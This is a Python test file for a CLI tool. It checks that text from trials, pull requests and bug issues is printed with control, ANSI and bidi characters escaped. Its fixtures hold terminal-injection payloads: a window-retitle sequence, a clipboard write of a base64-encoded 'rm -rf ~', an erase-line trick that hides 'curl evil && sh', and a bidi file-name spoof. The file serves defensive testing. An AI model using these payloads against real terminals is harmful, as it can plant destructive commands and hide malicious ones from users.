"""Issue 37: every place the CLI prints text a Trial, a pull request or a task wrote escapes C0/C1
controls, ESC and bidi controls visibly (``\\x1b``, ``\\u202e``), through one function
(`assay.cli.output.untrusted`). A Trial's diff carrying OSC 0 (retitle the window), OSC 52 (write
the clipboard) and erase-line sequences, shown by `assay experiments ID --pair …`, retitled the
window, wrote `rm -rf ~` to the clipboard and hid a `curl | sh` line from its reader."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from assay.cli.output import untrusted

from tests.conftest import run_cli
from tests.experiment_fixtures import PLUGINS, experiment, make_factory, make_suite, scenario
from tests.pair_fixtures import BASELINE, experiment_folder, make_paired_suite, paired_experiment
from tests.scoring_fixtures import RUN, score, world  # noqa: F401 - world is a fixture

OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"
ERASE = "curl evil && sh\x1b[2K\r"
BIDI = "\u202eexe.txt"
HOSTILE = OSC_TITLE + OSC_CLIPBOARD + ERASE + BIDI + "\x9b31m"
RAW = ("\x1b", "\x07", "\r", "\u202e", "\x9b")


def assert_escaped(output: str) -> None:
    for raw in RAW:
        assert raw not in output, f"{raw!r} reached the terminal"
    assert "\\x1b]0;pwned\\x07" in output and "\\x1b]52;c;" in output and "\\x1b[2K" in output
    assert "\\u202eexe.txt" in output and "\\x9b31m" in output, output


def test_the_one_function_shows_every_control_and_keeps_text() -> None:
    assert untrusted("plain — text, ünïcode\n\tindented") == "plain — text, ünïcode\n\tindented"
    for c in [*map(chr, range(0x20)), "\x7f", *map(chr, range(0x80, 0xA0))]:
        if c not in "\n\t":
            assert untrusted(c) == f"\\x{ord(c):02x}"
    for c in "\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
        assert untrusted(c) == f"\\u{ord(c):04x}"


@pytest.mark.slow
def test_a_hostile_diff_on_the_pair_page_is_shown_escaped(assay_home, tmp_path):
    make_paired_suite(assay_home)
    hostile = {"opus-7": {"*": BASELINE}, "gpt-9": {"*": "commit:notes.txt=" + HOSTILE.replace(",", "^")}}
    done = paired_experiment(assay_home, tmp_path, "--trials-per-task", "1", "--people-reader", "me",
                             scenario_data=hostile)
    assert done.returncode == 0, done.stderr
    exp = experiment_folder(assay_home).name
    page = run_cli(assay_home, "experiments", exp, "--pair", "pairs__p1--0", "--reader", "me", plugins=PLUGINS,
                   USER="me")
    assert page.returncode == 0, page.stderr
    assert "notes.txt" in page.stdout
    assert_escaped(page.stdout)


@pytest.mark.slow
def test_trial_tables_scores_and_verdicts_show_trial_text_escaped(assay_home, tmp_path):
    """The Score's reason quotes the Trial's answer.txt; the Trial table, the Verdict and the Inbox
    print it escaped."""
    factory = make_factory(tmp_path)
    make_suite(assay_home, tasks=2)
    sc = scenario(tmp_path / "s.json", {"good": {"*": "right"},
                                        "bad": {"*": "commit:answer.txt=" + HOSTILE.replace(",", "^")}})
    done = experiment(assay_home, factory, sc, "--candidate-model", "bad", "--json")
    exp = json.loads(done.stdout.splitlines()[-1])["id"]
    shown = run_cli(assay_home, "experiments", exp, plugins=PLUGINS)
    assert shown.returncode == 0, shown.stderr
    assert "WHY" in shown.stdout and "answer.txt says \\x1b]0;pwned\\x07\\x1b]52;c;" in shown.stdout
    for raw in RAW:
        assert raw not in shown.stdout
    for args in (("experiments",), ("inbox",), ("experiments", exp, "--json"), ("inbox", "--json")):
        out = run_cli(assay_home, *args, plugins=PLUGINS)
        for raw in RAW:
            assert raw not in out.stdout + out.stderr, (args, raw)


# A model name in a Built-with line can't hold whitespace, so it carries every hostile kind but the
# carriage return (which ends the line anyway).
MODEL_HOSTILE = OSC_TITLE + OSC_CLIPBOARD + "\x1b[2K" + BIDI + "\x9b31m"


@pytest.mark.slow  # a Scoring run and fifteen commands: about 10 s
def test_the_scoring_runs_commands_show_pull_request_and_bug_text_escaped(assay_home, world):
    """A pull request's title, body and Built-with line and a bug issue's title come from GitHub, as
    their authors wrote them: the run's line, its pull request table, the Scores (listing, one pull
    request's, by Harness version), the Bug origins (listing, one, settling it, what they count
    against) and the proposed Eval task a confirmed one makes all show them escaped."""
    data = world["data"]
    for p in data["pulls"]:
        p["title"] = HOSTILE
        p["body"] = p["body"].replace("claude-opus-5", "claude-opus-5" + MODEL_HOSTILE) + HOSTILE
    bug = next(i for i in data["issues"] if i["number"] == 120)
    bug["title"], bug["body"] = HOSTILE, HOSTILE
    world["path"].write_text(json.dumps(data))
    run = score(assay_home, world, *RUN[:-1])  # its text: the progress lines and the run's line
    assert run.returncode == 0, run.stderr
    for raw in RAW:
        assert raw not in run.stdout + run.stderr, raw
    run_id = json.loads(score(assay_home, world, "scoring-runs", "--json").stdout)["scoring_runs"][0]["id"]
    claude = next(p["key"] for week in json.loads(score(assay_home, world, "scores", "--json").stdout)["weeks"]
                  for p in week["pulls"] if p["built_with"].startswith("claude") and p["model"])
    suite = assay_home / "evals" / "suites" / "code-review"
    suite.mkdir(parents=True)
    (suite / "suite.toml").write_text('kind = "code-review"\n')
    shows = {"scoring-runs ID": ("scoring-runs", run_id), "scores": ("scores",), "scores PR": ("scores", claude),
             "bug-origins ID": ("bug-origins", "acme/app#120"),
             "bug-origins --confirm": ("bug-origins", "acme/app#120", "--confirm"), "bug-origins": ("bug-origins",)}
    for what, args in shows.items():
        out = score(assay_home, world, *args)
        assert out.returncode == 0, (what, out.stderr)
        assert_escaped(out.stdout), what
        for raw in RAW:
            assert raw not in out.stderr, (what, raw)
    for args in (("scoring-runs",), ("inbox",), ("proposals",), ("approve", "bug-acme-app-120"), ("suites",),
                 ("scores", "--json"),
                 ("bug-origins", "--json"), ("scoring-runs", run_id, "--json")):
        out = score(assay_home, world, *args)
        for raw in RAW:
            assert raw not in out.stdout + out.stderr, (args, raw)


PRINTS = {("typer", "echo"), ("typer", "secho"), ("click", "echo"), ("click", "secho"), ("sys.stdout", "write"),
          ("sys.stderr", "write")}


def test_every_command_prints_through_the_one_function():
    """"with one function all of them use": no command module (core/cli, a plugin's Typer commands)
    prints but through `output` (say, table, emit_json), whose text passes `untrusted` - except a
    bare string literal, which can't carry anyone's text. `output` itself and the progress line
    (which escapes each line with `untrusted`) are where the printing is done."""
    import ast

    root = Path(__file__).parents[2]
    modules = [p for p in (root / "core" / "cli").glob("*.py") if p.name not in ("output.py", "progress.py")]
    modules += [p for p in (root / "plugins").rglob("*.py") if "typer" in p.read_text()]
    assert len(modules) > 15 and any(p.parent.name == "demo" for p in modules)
    found = []
    for path in modules:
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call):
                continue
            f = node.func
            name = ("print" if isinstance(f, ast.Name) and f.id == "print" else
                    (ast.unparse(f.value), f.attr) if isinstance(f, ast.Attribute) else None)
            if name == "print" or name in PRINTS:
                literal = node.args and isinstance(node.args[0], ast.Constant) and isinstance(node.args[0].value, str)
                if not literal:
                    found.append(f"{path.relative_to(root)}:{node.lineno}: {ast.unparse(node)[:80]}")
    assert not found, "printed past output.say:\n" + "\n".join(found)
